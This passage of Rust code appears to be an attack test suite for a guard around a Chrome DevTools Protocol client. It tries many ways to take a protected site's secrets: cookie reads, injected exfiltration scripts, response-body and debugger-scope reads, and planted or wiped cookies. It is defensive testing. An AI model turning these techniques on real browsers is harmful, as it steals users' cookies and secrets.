        other => Err(Stop::Failed(format!(
            "the vault request's agent: {other:?}"
        ))),
    }
}

fn accept_language_subresource(ctx: &Ctx) -> Res {
    let hit = vault_subresource(ctx, &|s| {
        ctx.send(
            "Network.setUserAgentOverride",
            json!({"userAgent": "Mozilla/5.0", "acceptLanguage": "x-attack"}),
            Some(s),
        )?;
        Ok(())
    })?;
    match hit.header("accept-language") {
        Some(v) if v.contains("x-attack") => {
            Ok(format!("the vault request carried Accept-Language: {v}"))
        }
        other => Err(Stop::Failed(format!(
            "the vault request's Accept-Language: {other:?}"
        ))),
    }
}

fn fetch_header_subresource(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": "*", "requestStage": "Request"}]}),
        Some(&s),
    )?;
    let from = ctx.c.event_count();
    ctx.eval(
        &s,
        &format!(
            "fetch({}, {{mode: 'no-cors'}}); true",
            json!(ctx.vault("/img"))
        ),
    )?;
    let deadline = std::time::Instant::now() + Duration::from_secs(3);
    let mut next = from;
    while std::time::Instant::now() < deadline {
        let Some((i, e)) = ctx.c.wait_event(
            next,
            &|e| e.method == "Fetch.requestPaused",
            Duration::from_millis(500),
        ) else {
            continue;
        };
        next = i + 1;
        let mut headers: Vec<Value> = e.params["request"]["headers"]
            .as_object()
            .map(|h| {
                h.iter()
                    .map(|(k, v)| json!({"name": k, "value": v}))
                    .collect()
            })
            .unwrap_or_default();
        headers.push(json!({"name": "X-Attack", "value": ctx.tag}));
        let _ = ctx.send(
            "Fetch.continueRequest",
            json!({"requestId": e.params["requestId"], "headers": headers}),
            Some(&s),
        );
    }
    let hit = ctx.app().wait(Duration::from_secs(1), |h| {
        h.host == on_site("vault.sliccy.ai") && h.path() == "/img" && h.target.contains(&ctx.tag)
    });
    match hit.as_ref().and_then(|h| h.header("x-attack")) {
        Some(v) if v == ctx.tag => Ok("the vault request carried X-Attack".into()),
        _ => Err(Stop::Failed(format!(
            "the vault request ({}) carried no X-Attack",
            hit.is_some()
        ))),
    }
}

// ---- more of class 7 ----

fn url_variants(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    let path = format!("/app?t={}", ctx.tag);
    for url in [
        on_site(&format!("http://VAULT.SLICCY.AI{path}")),
        on_site(&format!("http://vault.sliccy.ai:80{path}")),
        on_site(&format!("http://u:p@vault.sliccy.ai{path}")),
        on_site(&format!("http://vault.sliccy.ai/./{}", &path[1..])),
    ] {
        if ctx
            .send("Page.navigate", json!({"url": url}), Some(&s))
            .is_ok()
        {
            ctx.exfil_loop(&s, 1500);
            if let Ok(e) = ctx.exfiltrated(500) {
                return Ok(format!("{e} (via {url})"));
            }
        }
    }
    Err(Stop::Failed("no spelling got through".into()))
}

fn view_source(ctx: &Ctx) -> Res {
    ctx.user_open(&ctx.vault("/app"))?;
    let (_, s) = ctx.open(&format!("view-source:{}", ctx.vault("/app")))?;
    deep_text_holds_secret(ctx, &s, "view-source:", 4000)
}

fn blob_url(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let blob = ctx.user_eval(&tab, "makeBlob()")?;
    let blob = blob.as_str().unwrap_or_default().to_string();
    let (_, s) = ctx.open(&blob)?;
    deep_text_holds_secret(ctx, &s, &blob, 3000)
}

/// The user visits the vault (its cookie, storage, database and cache are written); the
/// client's ordinary page session.
fn vault_visited(ctx: &Ctx) -> Result<String, Stop> {
    ctx.user_open(&ctx.vault("/app"))?;
    ctx.app()
        .app_event(&ctx.tag, "idb", "stored", Duration::from_secs(5))
        .ok_or_else(|| Stop::Setup("the vault never stored its database".into()))?;
    ctx.app()
        .app_event(&ctx.tag, "cache", "stored", Duration::from_secs(5))
        .ok_or_else(|| Stop::Setup("the vault never stored its cache".into()))?;
    Ok(client_page(ctx, None)?.1)
}

fn get_all_cookies(ctx: &Ctx) -> Res {
    let s = vault_visited(ctx)?;
    let r = ctx.send("Network.getAllCookies", json!({}), Some(&s))?;
    ctx.holds_secret("Network.getAllCookies", &r.to_string())
}

fn storage_get_cookies(ctx: &Ctx) -> Res {
    vault_visited(ctx)?;
    let r = ctx.send("Storage.getCookies", json!({}), None)?;
    ctx.holds_secret("Storage.getCookies", &r.to_string())
}

fn cookie_url_variants(ctx: &Ctx) -> Res {
    let s = vault_visited(ctx)?;
    for url in [
        on_site("ws://vault.sliccy.ai/"),
        on_site("http://VAULT.sliccy.ai/"),
        on_site("http://vault.sliccy.ai:80/"),
        on_site("blob:http://vault.sliccy.ai/x"),
    ] {
        if let Ok(r) = ctx.send("Network.getCookies", json!({"urls": [url]}), Some(&s)) {
            if let Ok(e) = ctx.holds_secret("Network.getCookies", &r.to_string()) {
                return Ok(format!("{e} (urls: {url})"));
            }
        }
    }
    Err(Stop::Failed("no spelling gave the vault's cookie".into()))
}

/// A cookie read the guard answers for its ordinary URLs (issue 29, item 7): the vault's URLs
/// beside an ordinary one, in every spelling `cookie_url_variants` tries, in one call.
fn get_cookies_mixed_urls(ctx: &Ctx) -> Res {
    let s = vault_visited(ctx)?;
    let urls = json!([
        "http://ordinary.test/",
        on_site("http://vault.sliccy.ai/"),
        on_site("ws://vault.sliccy.ai/"),
        on_site("http://VAULT.sliccy.ai/"),
        on_site("http://vault.sliccy.ai:80/"),
        on_site("blob:http://vault.sliccy.ai/x"),
        "http://ordinary.test/page",
    ]);
    let r = ctx.send("Network.getCookies", json!({ "urls": urls }), Some(&s))?;
    ctx.holds_secret("Network.getCookies", &r.to_string())
}

/// Whether the user's default context still holds the vault's secret cookie, read by the
/// observer (outside the guard).
fn vault_cookie_kept(ctx: &Ctx) -> Result<bool, Stop> {
    let r = ctx
        .obs()
        .send("Storage.getCookies", json!({}), None)
        .map_err(|e| Stop::Setup(format!("the observer's Storage.getCookies: {e}")))?;
    Ok(r.to_string().contains(ctx.secret()))
}

/// The user's cookies wiped by a context-wide clear (issue 29, item 6): the vault's cookie
/// is gone from the user's default context. `params` makes the call's parameters once the
/// user visited the vault and the client's page is open.
fn clear_user_cookies_with(ctx: &Ctx, params: fn(&Ctx) -> Result<Value, Stop>) -> Res {
    vault_visited(ctx)?;
    if !vault_cookie_kept(ctx)? {
        return Err(Stop::Setup(
            "the vault set no cookie in the user's context".into(),
        ));
    }
    let params = params(ctx)?;
    let _ = ctx.send("Storage.clearCookies", params.clone(), None);
    sleep(300);
    if vault_cookie_kept(ctx)? {
        Err(Stop::Failed(format!(
            "the vault's cookie is still there after Storage.clearCookies {params}"
        )))
    } else {
        Ok(format!(
            "Storage.clearCookies {params} wiped the vault's cookie"
        ))
    }
}

fn clear_user_cookies(ctx: &Ctx) -> Res {
    clear_user_cookies_with(ctx, |_| Ok(json!({})))
}

fn clear_user_cookies_named(ctx: &Ctx) -> Res {
    // The default context's id, as the client's own page (in it) shows it.
    clear_user_cookies_with(ctx, |ctx| {
        let targets = ctx.send("Target.getTargets", json!({}), None)?;
        let context = targets["targetInfos"]
            .as_array()
            .into_iter()
            .flatten()
            .find_map(|t| t["browserContextId"].as_str())
            .ok_or_else(|| Stop::Setup(format!("no target names a browser context: {targets}")))?
            .to_string();
        Ok(json!({ "browserContextId": context }))
    })
}

fn set_parent_cookie(ctx: &Ctx) -> Res {
    let value = format!("planted-{}", ctx.tag);
    let _ = ctx.send(
        "Storage.setCookies",
        json!({"cookies": [{"name": "planted", "value": value, "domain": on_site(".sliccy.ai"), "path": "/"}]}),
        None,
    );
    ctx.user_open(&ctx.vault("/app"))?;
    ctx.app()
        .wait(Duration::from_secs(2), |h| {
            h.host == on_site("vault.sliccy.ai")
                && h.header("cookie").is_some_and(|c| c.contains(&value))
        })
        .map(|_| "the vault server got the client's cookie".to_string())
        .ok_or_else(|| Stop::Failed("the vault server never got the client's cookie".into()))
}

fn grant_permissions(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let _ = ctx.send(
        "Browser.grantPermissions",
        json!({"origin": *VAULT, "permissions": ["geolocation"]}),
        None,
    );
    let state = ctx.user_eval(
        &tab,
        "navigator.permissions.query({name: 'geolocation'}).then((p) => p.state)",
    )?;
    if state == json!("granted") {
        Ok("the vault's geolocation permission is granted".into())
    } else {
        Err(Stop::Failed(format!(
            "the vault's geolocation permission: {state}"
        )))
    }
}

/// Continues every paused request on `session` for `ms`, calling `each` on each first.
fn pump_fetch(
    ctx: &Ctx,
    from: usize,
    session: Option<&str>,
    ms: u64,
    each: &dyn Fn(&Value) -> bool,
) {
    let deadline = std::time::Instant::now() + Duration::from_millis(ms);
    let mut next = from;
    while std::time::Instant::now() < deadline {
        let Some((i, e)) = ctx.c.wait_event(
            next,
            &|e| e.method == "Fetch.requestPaused" && e.session_id.as_deref() == session,
            Duration::from_millis(300),
        ) else {
            continue;
        };
        next = i + 1;
        if each(&e.params) {
            let _ = ctx.c.send(
                "Fetch.continueRequest",
                json!({"requestId": e.params["requestId"]}),
                session,
            );
        }
    }
}

/// What `Fetch.getResponseBody` gives for the paused `request` on `session`, as text (`None`
/// when it fails).
fn paused_body(ctx: &Ctx, request: &Value, session: Option<&str>) -> Option<String> {
    let b = ctx
        .c
        .send(
            "Fetch.getResponseBody",
            json!({"requestId": request}),
            session,
        )
        .ok()?;
    let body = b["body"].as_str().unwrap_or_default();
    Some(if b["base64Encoded"] == json!(true) {
        String::from_utf8_lossy(&b64decode(body)).into_owned()
    } else {
        body.to_string()
    })
}

fn fetch_browser_session(ctx: &Ctx) -> Res {
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": "*", "requestStage": "Response"}]}),
        None,
    )?;
    let from = ctx.c.event_count();
    let _ = ctx.obs().send(
        "Target.createTarget",
        json!({"url": ctx.vault("/app")}),
        None,
    );
    let seen = std::sync::Mutex::new(String::new());
    pump_fetch(ctx, from, None, 3000, &|p| {
        if p["request"]["url"]
            .as_str()
            .is_some_and(|u| u.contains(&on_site("vault.sliccy.ai")))
        {
            if let Some(text) = paused_body(ctx, &p["requestId"], None) {
                seen.lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .push_str(&text);
            }
        }
        true
    });
    let _ = ctx.c.send("Fetch.disable", json!({}), None);
    let text = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    ctx.holds_secret("Fetch.getResponseBody on the browser session", &text)
}

fn fetch_fulfill_browser(ctx: &Ctx) -> Res {
    ctx.user_open(&ctx.vault("/app"))?;
    let second = format!("{}&second=1", ctx.vault("/app"));
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": "*second=1*", "requestStage": "Request"}]}),
        None,
    )?;
    let from = ctx.c.event_count();
    let _ = ctx
        .obs()
        .send("Target.createTarget", json!({"url": second}), None);
    let html = format!(
        "<!doctype html><title>fulfilled</title><script>{}</script>",
        ctx.exfil_js()
    );
    pump_fetch(ctx, from, None, 2000, &|p| {
        let _ = ctx.c.send(
            "Fetch.fulfillRequest",
            json!({"requestId": p["requestId"], "responseCode": 200,
                   "responseHeaders": [{"name": "Content-Type", "value": "text/html"}],
                   "body": b64encode(html.as_bytes())}),
            None,
        );
        false
    });
    let _ = ctx.c.send("Fetch.disable", json!({}), None);
    ctx.exfiltrated(2000)
}

fn fetch_response_body(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": on_site("*vault.sliccy.ai*"), "requestStage": "Response"}]}),
        Some(&s),
    )?;
    let from = ctx.c.event_count();
    ctx.eval(
        &s,
        &format!(
            "fetch({}, {{mode: 'no-cors'}}); true",
            json!(ctx.vault("/secret.js"))
        ),
    )?;
    let seen = std::sync::Mutex::new(String::new());
    pump_fetch(ctx, from, Some(&s), 2000, &|p| {
        if let Some(text) = paused_body(ctx, &p["requestId"], Some(&s)) {
            seen.lock()
                .unwrap_or_else(|e| e.into_inner())
                .push_str(&text);
        }
        true
    });
    let text = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    ctx.holds_secret("Fetch.getResponseBody", &text)
}

fn network_response_body(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("Network.enable", json!({}), Some(&s))?;
    let from = ctx.c.event_count();
    ctx.eval(
        &s,
        &format!(
            "(async () => {{ await fetch('/x1'); await fetch({}, {{mode: 'no-cors'}}); await fetch('/x2'); return true; }})()",
            json!(ctx.vault("/secret.js"))
        ),
    )?;
    sleep(300);
    // The ids of the two ordinary requests bracket the vault one: try every id between.
    let ids: Vec<String> = ctx
        .events(from)
        .iter()
        .filter(|e| e.method == "Network.requestWillBeSent")
        .filter_map(|e| e.params["requestId"].as_str().map(String::from))
        .collect();
    let numeric = |id: &str| -> Option<(String, u64)> {
        let (a, b) = id.rsplit_once('.')?;
        Some((a.to_string(), b.parse().ok()?))
    };
    let Some((prefix, low)) = ids
        .iter()
        .filter_map(|i| numeric(i))
        .min_by_key(|(_, n)| *n)
    else {
        return Err(Stop::Failed("no request ids".into()));
    };
    let high = ids
        .iter()
        .filter_map(|i| numeric(i))
        .map(|(_, n)| n)
        .max()
        .unwrap_or(low);
    let mut text = String::new();
    for n in low..=high + 2 {
        if let Ok(r) = ctx.c.send_timeout(
            "Network.getResponseBody",
            json!({"requestId": format!("{prefix}.{n}")}),
            Some(&s),
            Duration::from_secs(2),
        ) {
            text.push_str(&r.to_string());
        }
    }
    ctx.holds_secret("Network.getResponseBody", &text)
}

fn load_network_resource(ctx: &Ctx) -> Res {
    load_network_resource_of(ctx, &ctx.vault("/secret.js"))
}

/// `Network.loadNetworkResource` of `url` (with credentials) on the client's page, read back
/// from its stream.
fn load_network_resource_of(ctx: &Ctx, url: &str) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let tree = ctx.send("Page.getFrameTree", json!({}), Some(&s))?;
    let frame = tree["frameTree"]["frame"]["id"].clone();
    let r = ctx.send(
        "Network.loadNetworkResource",
        json!({"frameId": frame, "url": url, "options": {"disableCache": true, "includeCredentials": true}}),
        Some(&s),
    )?;
    let handle = r["resource"]["stream"].clone();
    let mut text = String::new();
    for _ in 0..100 {
        let Ok(r) = ctx.send("IO.read", json!({"handle": handle}), Some(&s)) else {
            break;
        };
        let data = r["data"].as_str().unwrap_or_default();
        if r["base64Encoded"] == json!(true) {
            text.push_str(&String::from_utf8_lossy(&b64decode(data)));
        } else {
            text.push_str(data);
        }
        if r["eof"] == json!(true) {
            break;
        }
    }
    ctx.holds_secret("Network.loadNetworkResource", &text)
}

/// The client's page loads the vault's `/secret.js` as a script; its session.
/// The client's page loads the vault script at `path` with a `<script>` element and waits for
/// it to load or fail.
fn load_vault_script(ctx: &Ctx, s: &str, path: &str) -> Result<(), Stop> {
    ctx.eval(
        s,
        &format!(
            "new Promise((r) => {{ const e = document.createElement('script'); e.src = {}; e.onload = () => r(true); e.onerror = () => r(false); document.head.append(e); }})",
            json!(ctx.vault(path))
        ),
    )?;
    Ok(())
}

/// `DOMDebugger.getEventListeners` of the page's `window`, fetched in an object group so the
/// listeners come with their handler objects.
fn window_listeners(ctx: &Ctx, s: &str) -> Result<Value, Stop> {
    let w = ctx.send(
        "Runtime.evaluate",
        json!({"expression": "window", "objectGroup": "attack"}),
        Some(s),
    )?;
    ctx.send(
        "DOMDebugger.getEventListeners",
        json!({"objectId": w["result"]["objectId"]}),
        Some(s),
    )
}

fn page_with_vault_script(
    ctx: &Ctx,
    before: &dyn Fn(&str) -> Result<(), Stop>,
) -> Result<String, Stop> {
    let (_, s) = client_page(ctx, None)?;
    before(&s)?;
    load_vault_script(ctx, &s, "/secret.js")?;
    Ok(s)
}

fn page_resource_content(ctx: &Ctx) -> Res {
    let s = page_with_vault_script(ctx, &|s| {
        ctx.send("Page.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let tree = ctx.send("Page.getFrameTree", json!({}), Some(&s))?;
    let r = ctx.send(
        "Page.getResourceContent",
        json!({"frameId": tree["frameTree"]["frame"]["id"], "url": ctx.vault("/secret.js")}),
        Some(&s),
    )?;
    ctx.holds_secret("Page.getResourceContent", &r.to_string())
}

fn debugger_script_source(ctx: &Ctx) -> Res {
    let from = ctx.c.event_count();
    let s = page_with_vault_script(ctx, &|s| {
        ctx.send("Debugger.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let script = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Debugger.scriptParsed"
                    && e.params["url"]
                        .as_str()
                        .is_some_and(|u| u.contains("secret.js"))
            },
            Duration::from_secs(2),
        )
        .ok_or_else(|| Stop::Failed("no scriptParsed for the vault script".into()))?;
    let r = ctx.send(
        "Debugger.getScriptSource",
        json!({"scriptId": script.1.params["scriptId"]}),
        Some(&s),
    )?;
    ctx.holds_secret("Debugger.getScriptSource", &r.to_string())
}

/// The client's page with `Debugger` on loads the vault's `/secret.js`: (session, the script
/// id its `Debugger.scriptParsed` named, every event since).
fn debugger_page(ctx: &Ctx) -> Result<(String, String), Stop> {
    let from = ctx.c.event_count();
    let s = page_with_vault_script(ctx, &|s| {
        ctx.send("Debugger.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let script = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Debugger.scriptParsed"
                    && e.params["url"]
                        .as_str()
                        .is_some_and(|u| u.contains("secret.js"))
            },
            Duration::from_secs(2),
        )
        .ok_or_else(|| Stop::Failed("no scriptParsed for the vault script".into()))?;
    let id = script.1.params["scriptId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    Ok((s, id))
}

fn debugger_search_in_content(ctx: &Ctx) -> Res {
    let (s, id) = debugger_page(ctx)?;
    let r = ctx.send(
        "Debugger.searchInContent",
        json!({"scriptId": id, "query": "const k"}),
        Some(&s),
    )?;
    ctx.holds_secret("Debugger.searchInContent", &r.to_string())
}

fn debugger_script_id_guess(ctx: &Ctx) -> Res {
    let from = ctx.c.event_count();
    let s = page_with_vault_script(ctx, &|s| {
        ctx.send("Debugger.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    sleep(300);
    let top = ctx
        .events(from)
        .iter()
        .filter(|e| {
            e.method == "Debugger.scriptParsed" && e.session_id.as_deref() == Some(s.as_str())
        })
        .filter_map(|e| e.params["scriptId"].as_str()?.parse::<u64>().ok())
        .max()
        .unwrap_or(0);
    let mut refused = 0;
    for id in 1..=top + 40 {
        match ctx.c.send(
            "Debugger.getScriptSource",
            json!({"scriptId": id.to_string()}),
            Some(&s),
        ) {
            Ok(r) => {
                if r.to_string().contains(ctx.secret()) {
                    return ctx.holds_secret(
                        &format!("Debugger.getScriptSource of guessed id {id}"),
                        &r.to_string(),
                    );
                }
            }
            Err(_) => refused += 1,
        }
    }
    Err(Stop::Failed(format!(
        "no script id up to {} gave the vault's source ({refused} errors)",
        top + 40
    )))
}

fn debugger_breakpoint_scope(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("Debugger.enable", json!({}), Some(&s))?;
    // The script is one line: `(function () { const k = "..."; return k.length; })();`.
    ctx.send(
        "Debugger.setBreakpointByUrl",
        json!({"urlRegex": "secret\\.js", "lineNumber": 0, "condition": ""}),
        Some(&s),
    )?;
    let from = ctx.c.event_count();
    ctx.send(
        "Runtime.evaluate",
        json!({"expression": format!("(() => {{ const e = document.createElement('script'); e.src = {}; document.head.append(e); return true; }})()", json!(ctx.vault("/secret.js")))}),
        Some(&s),
    )?;
    let mut text = String::new();
    // Step until the closure's `k` is in scope (at most a few steps), reading it each time.
    let mut cursor = from;
    for _ in 0..6 {
        let Some((at, paused)) = ctx.c.wait_event(
            cursor,
            &|e| e.method == "Debugger.paused" && e.session_id.as_deref() == Some(s.as_str()),
            Duration::from_secs(4),
        ) else {
            break;
        };
        cursor = at + 1;
        let frame = paused.params["callFrames"][0]["callFrameId"].clone();
        if let Ok(r) = ctx.send(
            "Debugger.evaluateOnCallFrame",
            json!({"callFrameId": frame, "expression": "String(k)", "returnByValue": true}),
            Some(&s),
        ) {
            text.push_str(&r.to_string());
            if text.contains(ctx.secret()) {
                break;
            }
        }
        let _ = ctx.send("Debugger.stepInto", json!({}), Some(&s));
    }
    let _ = ctx.c.send("Debugger.resume", json!({}), Some(&s));
    ctx.holds_secret("a paused vault script's scope", &text)
}

/// Everything under `object` to `depth` levels (own and internal properties), as text.
fn object_text(ctx: &Ctx, s: &str, object: &Value, depth: u32, out: &mut String) {
    if depth == 0 {
        return;
    }
    let Ok(r) = ctx.send(
        "Runtime.getProperties",
        json!({"objectId": object, "ownProperties": true}),
        Some(s),
    ) else {
        return;
    };
    out.push_str(&r.to_string());
    for list in ["result", "internalProperties"] {
        for p in r[list].as_array().cloned().unwrap_or_default() {
            let id = &p["value"]["objectId"];
            if id.is_string() && p["name"].as_str().is_none_or(|n| n != "__proto__") {
                object_text(ctx, s, id, depth - 1, out);
            }
        }
    }
}

fn function_scopes(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    load_vault_script(ctx, &s, "/secret.js?keep=1")?;
    let listeners = window_listeners(ctx, &s)?;
    let mut text = String::new();
    for l in listeners["listeners"]
        .as_array()
        .cloned()
        .unwrap_or_default()
    {
        if l["type"] == "message" {
            object_text(ctx, &s, &l["handler"]["objectId"], 4, &mut text);
        }
    }
    if text.is_empty() {
        return Err(Stop::Failed(format!("no listener to read: {listeners}")));
    }
    ctx.holds_secret("a vault listener's [[Scopes]]", &text)
}

fn scopes_object_id_guess(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    load_vault_script(ctx, &s, "/secret.js?keep=1")?;
    let listeners = window_listeners(ctx, &s)?;
    let handler = listeners["listeners"]
        .as_array()
        .and_then(|ls| ls.iter().find(|l| l["type"] == "message"))
        .and_then(|l| l["handler"]["objectId"].as_str())
        .ok_or_else(|| Stop::Failed(format!("no handler: {listeners}")))?
        .to_string();
    // The handler's own properties (the closure object is made here, shown or not).
    let _ = ctx.send(
        "Runtime.getProperties",
        json!({"objectId": handler, "ownProperties": true}),
        Some(&s),
    );
    let (stem, n) = handler
        .rsplit_once('.')
        .and_then(|(a, b)| Some((a.to_string(), b.parse::<u64>().ok()?)))
        .ok_or_else(|| Stop::Failed(format!("object id {handler} has no counter")))?;
    let mut text = String::new();
    for k in n + 1..n + 40 {
        let id = json!(format!("{stem}.{k}"));
        object_text(ctx, &s, &id, 3, &mut text);
        if text.contains(ctx.secret()) {
            break;
        }
    }
    ctx.holds_secret("guessed object ids after a vault listener's", &text)
}

fn query_objects(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    load_vault_script(ctx, &s, "/secret.js?keep=1")?;
    let proto = ctx.send(
        "Runtime.evaluate",
        json!({"expression": "Object.prototype"}),
        Some(&s),
    )?;
    let all = ctx.send(
        "Runtime.queryObjects",
        json!({"prototypeObjectId": proto["result"]["objectId"]}),
        Some(&s),
    )?;
    let r = ctx.send(
        "Runtime.callFunctionOn",
        json!({"objectId": all["objects"]["objectId"], "returnByValue": true,
               "functionDeclaration": "function () { return this.map((o) => { try { return JSON.stringify(o); } catch (e) { return ''; } }).join('|'); }"}),
        Some(&s),
    )?;
    ctx.holds_secret("Runtime.queryObjects", &r.to_string())
}

fn css_stylesheet_text(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("DOM.enable", json!({}), Some(&s))?;
    ctx.send("CSS.enable", json!({}), Some(&s))?;
    let from = ctx.c.event_count();
    ctx.eval(
        &s,
        &format!(
            "new Promise((r) => {{ const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = {}; e.onload = () => r(true); e.onerror = () => r(false); document.head.append(e); }})",
            json!(ctx.vault("/secret.css"))
        ),
    )?;
    let sheet = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "CSS.styleSheetAdded"
                    && e.params["header"]["sourceURL"]
                        .as_str()
                        .is_some_and(|u| u.contains("secret.css"))
            },
            Duration::from_secs(2),
        )
        .ok_or_else(|| Stop::Failed("no styleSheetAdded for the vault stylesheet".into()))?;
    let r = ctx.send(
        "CSS.getStyleSheetText",
        json!({"styleSheetId": sheet.1.params["header"]["styleSheetId"]}),
        Some(&s),
    )?;
    ctx.holds_secret("CSS.getStyleSheetText", &r.to_string())
}

fn page_search_in_resource(ctx: &Ctx) -> Res {
    let s = page_with_vault_script(ctx, &|s| {
        ctx.send("Page.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let tree = ctx.send("Page.getFrameTree", json!({}), Some(&s))?;
    let r = ctx.send(
        "Page.searchInResource",
        json!({"frameId": tree["frameTree"]["frame"]["id"], "url": ctx.vault("/secret.js"), "query": "const k"}),
        Some(&s),
    )?;
    ctx.holds_secret("Page.searchInResource", &r.to_string())
}

fn download_behavior(ctx: &Ctx) -> Res {
    // Removed when it drops, on every path out (an early `?` used to leave it in /tmp).
    let tmp = tempfile::Builder::new()
        .prefix(&format!("slicc-attacks-dl-{}-", ctx.tag))
        .tempdir()
        .map_err(|e| Stop::Setup(format!("download dir: {e}")))?;
    let dir = tmp.path();
    let from = ctx.c.event_count();
    let r = ctx.send(
        "Browser.setDownloadBehavior",
        json!({"behavior": "allowAndName", "downloadPath": dir.display().to_string(), "eventsEnabled": true}),
        None,
    );
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    ctx.user_eval(
        &tab,
        "(() => { const a = document.createElement('a'); a.href = '/download'; a.download = ''; document.body.append(a); a.click(); return true; })()",
    )?;
    let got = ctx.c.wait_event(
        from,
        &|e| e.method.starts_with("Browser.download"),
        Duration::from_secs(3),
    );
    let _ = ctx.obs().send(
        "Browser.setDownloadBehavior",
        json!({"behavior": "default"}),
        None,
    );
    // The browser may still be writing the download into the dir: let it land, then remove it.
    std::thread::sleep(Duration::from_millis(500));
    let _ = tmp.close();
    r?;
    ctx.holds_secret(
        "Browser.downloadWillBegin",
        &got.map(|(_, e)| e.params.to_string()).unwrap_or_default(),
    )
}

fn expose_devtools_protocol(ctx: &Ctx) -> Res {
    let (t, s) = client_page(ctx, None)?;
    ctx.send(
        "Target.exposeDevToolsProtocol",
        json!({"targetId": t, "bindingName": "cdp"}),
        None,
    )?;
    ctx.user_open(&ctx.vault("/app"))?;
    let script = format!(
        "new Promise((res) => {{ let id = 0; \
         const send = (m, p, s) => cdp.send(JSON.stringify({{id: ++id, method: m, params: p, sessionId: s}})); \
         cdp.onmessage = (raw) => {{ const m = JSON.parse(raw); \
           if (m.id === 1) {{ const t = (m.result ? m.result.targetInfos : []).find((t) => t.url.includes({tag})); if (!t) return res('no target'); send('Target.attachToTarget', {{targetId: t.targetId, flatten: true}}); }} \
           else if (m.id === 2) send('Runtime.evaluate', {{expression: {js}, awaitPromise: true}}, m.result.sessionId); \
           else if (m.id === 3) res('done'); }}; \
         send('Target.getTargets', {{}}); setTimeout(() => res('timeout'), 4000); }})",
        tag = json!(on_site(&format!("vault.sliccy.ai/app?t={}", ctx.tag))),
        js = json!(ctx.exfil_js()),
    );
    let _ = ctx.eval(&s, &script);
    ctx.exfiltrated(2000)
}

fn popup_auto_attach(ctx: &Ctx) -> Res {
    let (t, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true}),
        None,
    )?;
    ctx.eval(
        &s,
        &format!(
            "setTimeout(() => window.open({}), 0); true",
            json!(ctx.vault("/app"))
        ),
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget"
                    && e.params["targetInfo"]["openerId"] == json!(t)
            },
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Failed("no session to the popup".into()))?;
    let p = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let _ = ctx.send("Page.enable", json!({}), Some(&p));
    let a = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&p),
    );
    let b = ctx.send("Runtime.runIfWaitingForDebugger", json!({}), Some(&p));
    ctx.exfil_loop(&p, 3000);
    ctx.exfiltrated(2000).map_err(|e| {
        Stop::Failed(format!(
            "{e:?}; attached to {}; {a:?} {b:?}",
            e_info(&ctx.events(from))
        ))
    })
}

/// The client's page opens `url` in a popup the client holds (browser-wide auto-attach,
/// waiting for the debugger); `instrument` runs on the popup's session, then the client resumes
/// it. Returns the popup's target id once the user's popup loaded `url` (read by the observer,
/// outside the guard: a guard that fails the load instead stops the attack there).
fn popup_loaded_with(
    ctx: &Ctx,
    url: &str,
    instrument: &dyn Fn(&str) -> Result<(), Stop>,
) -> Result<String, Stop> {
    let (t, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true}),
        None,
    )?;
    ctx.eval(
        &s,
        &format!("setTimeout(() => window.open({}), 0); true", json!(url)),
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget"
                    && e.params["targetInfo"]["openerId"] == json!(t)
            },
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Failed("no session to the popup".into()))?;
    let p = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let popup = e.params["targetInfo"]["targetId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    instrument(&p)?;
    let _ = ctx.send("Runtime.runIfWaitingForDebugger", json!({}), Some(&p));
    // The user's popup: loaded (guarded or not) when the guard lets it load for the user.
    ctx.user_wait_loaded(&popup, url)
